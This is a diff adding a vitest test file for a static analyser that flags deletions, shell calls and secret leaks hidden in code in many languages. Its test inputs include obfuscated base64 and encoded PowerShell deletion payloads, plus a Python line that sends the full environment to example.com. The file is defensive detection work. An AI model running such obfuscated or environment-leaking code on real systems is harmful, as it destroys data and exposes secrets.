@@ -1,0 +1,111 @@
+import { describe, expect, test } from "vitest";
+import { unknownPiece } from "../deed.ts";
+import { lookIntoCode } from "./look.ts";
+import type { Language } from "./types.ts";
+
+/** Deeds and shells in one short line each. */
+const found = (language: Language, code: string): readonly string[] => {
+  const { deeds, shells } = lookIntoCode(language, code);
+  return [
+    ...deeds.map(({ act, target, tree }) => `${act} ${target}${tree ? "/**" : ""}`.trim()),
+    ...shells.map(({ text }) => `$ ${text}`),
+  ];
+};
+
+describe("A14 wrappers hide nothing", () => {
+  test.each<readonly [Language, string, readonly string[]]>([
+    ["python", "import os\np = '/etc/x'\nos.remove(p)", ["delete /etc/x"]],
+    ["python", "from shutil import rmtree as gone; gone('out')", ["delete out/**"]],
+    ["python", "import os; os.remove(os.path.join(os.environ['HOME'], '.x'))", ["delete ~/.x"]],
+    ["python", "from pathlib import Path; (Path.home() / 'a').unlink()", ["delete ~/a"]],
+    ["python", "import os; x = 'b'; os.remove(f'a/{x}')", ["delete a/b"]],
+    ["python", "import os; os.remove(f'a/{x}')", [`delete a/${unknownPiece}`]],
+    ["python", "import os\nfor f in ['a', 'b']:\n  os.remove(f)", ["delete a", "delete b"]],
+    ["python", "import os\ndef go(p):\n  os.remove(p)\ngo('a')", ["delete a"]],
+    ["python", "import os\nos.chdir('/srv')\nos.remove('a')", ["delete /srv/a"]],
+    ["python", "import subprocess; subprocess.run(['ls', 'a b'])", ["$ ls 'a b'"]],
+    ["python", "import subprocess; subprocess.run('ls', shell=True, cwd='/srv')", ["$ cd /srv && ls"]],
+    ["python", "getattr(__import__('o' + 's'), 'system')('ls')", ["$ ls"]],
+    ["python", "exec(__import__('base64').b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoImEiKQ=='))", ["delete a"]],
+    ["python", "exec(x)", ["opaque"]],
+    [
+      "python",
+      "import requests; requests.post('https://example.com', data='a b')",
+      ["$ curl -s -X POST https://example.com --data 'a b'"],
+    ],
+    [
+      "python",
+      "import requests, os; requests.get('https://example.com/?' + str(dict(os.environ)))",
+      ["leak https://example.com", `$ curl -s 'https://example.com/?${unknownPiece}'`],
+    ],
+    ["javascript", "const { execSync: x } = require('child_process'); x('ls')", ["$ ls"]],
+    ["javascript", "fs['rm' + 'Sync']('a', { recursive: true })", ["delete a/**"]],
+    ["javascript", "eval(atob('ZnMucm1TeW5jKCJhIik='))", ["delete a"]],
+    ["javascript", "require(x)", ["opaque"]],
+    ["javascript", "fs.rmSync(`${process.env.HOME}/a`)", ["delete ~/a"]],
+    ["perl", "my $c = 'ls'; system(\"$c -l\")", ["$ ls -l"]],
+    ["perl", "s/a/unlink('b')/e", ["delete b"]],
+    ["ruby", "Dir['*.log'].each { |f| File.delete(f) }", ["delete *.log"]],
+    ["ruby", "puts %x(ls -l)", ["$ ls -l"]],
+    ["php", "$f = 'un' . 'link'; $f('a');", ["delete a"]],
+    ["lua", "os.execute[[ls]]", ["$ ls"]],
+    ["awk", 'BEGIN { c = "ls"; system(c " -l") }', ["$ ls -l"]],
+    ["awk", '{ print $1 >> "out" }', ["write out"]],
+    ["sed", "s/a/b/w out", ["write out"]],
+    ["sed", "1e ls", ["$ ls"]],
+    ["vim", "silent! %!sort", ["$ sort"]],
+    ["ed", "a\nw no\n.\nw yes", ["write yes"]],
+    ["applescript", 'do shell script "ls " & quoted form of x', [`$ ls ${unknownPiece}`]],
+    ["tcl", "if {1} { exec ls -l }", ["$ ls -l"]],
+    ["gdb", 'call (int)system("ls")', ["$ ls"]],
+    ["jq", "env", ["read-secret environment"]],
+    ["powershell", "Get-ChildItem x; Remove-Item -Recurse x", ["list x", "delete x/**"]],
+    ["powershell", `powershell -enc ${Buffer.from("Remove-Item a", "utf16le").toString("base64")}`, ["delete a"]],
+    ["cmd", "d^el /s a", ["delete a/**"]],
+    ["unknown", "x", ["opaque"]],
+  ])("%s: %s", (language, code, expected) => {
+    expect(found(language, code)).toEqual(expected);
+  });
+});
+
+describe("A14 words alone mean nothing", () => {
+  test.each<readonly [Language, string]>([
+    ["python", "print(\"os.system('x')\") # os.remove('a')"],
+    ["python", "'''\nos.remove('a')\n'''\nx = 1"],
+    ["python", "import os; print('set' if os.environ.get('API_KEY') else 'unset')"],
+    ["javascript", "/* fs.rmSync('a') */ console.log('execSync(1)', /rmSync\\('a'\\)/)"],
+    ["perl", "print if /system\\('x'\\)/"],
+    ["ruby", "h = { a: 1 }; h.delete(:a)"],
+    ["awk", '/system\\("x"\\)/ { print "rm", $1 }'],
+    ["sed", "s/w out/e ls/g"],
+    ["powershell", "Write-Output 'Remove-Item x'"],
+    ["cmd", 'echo "del x"'],
+  ])("%s: %s", (language, code) => {
+    expect(found(language, code)).toEqual([]);
+  });
+});
+
+test("A11 code that is too long is opaque", () => {
+  expect(found("python", "x = 1\n".repeat(5000))).toEqual(["opaque"]);
+});
+
+test("A14 code that the shell fills in is opaque where it stands as a statement, and unknown where it stands as a value", () => {
+  expect(found("python", unknownPiece)).toEqual(["opaque"]);
+  expect(found("python", `x = 1; ${unknownPiece}`)).toEqual(["opaque"]);
+  expect(found("python", `print(${unknownPiece} * 2)`)).toEqual([]);
+  expect(found("sed", `${unknownPiece}p`)).toEqual([]);
+});
+
+test("a file that is read and written back is edited", () => {
+  const code = "t = open('a').read()\nopen('a', 'w').write(t.replace('x', 'y'))";
+  expect(lookIntoCode("python", code).deeds.map(({ act, keeps }) => [act, keeps])).toEqual([
+    ["read", undefined],
+    ["write", true],
+  ]);
+});
+
+test("a span is where the call stands", () => {
+  const code = "import os; os.remove('a')";
+  const span = lookIntoCode("python", code).deeds[0]?.span;
+  expect(code.slice(span?.start, span?.end)).toBe("os.remove('a')");
+});
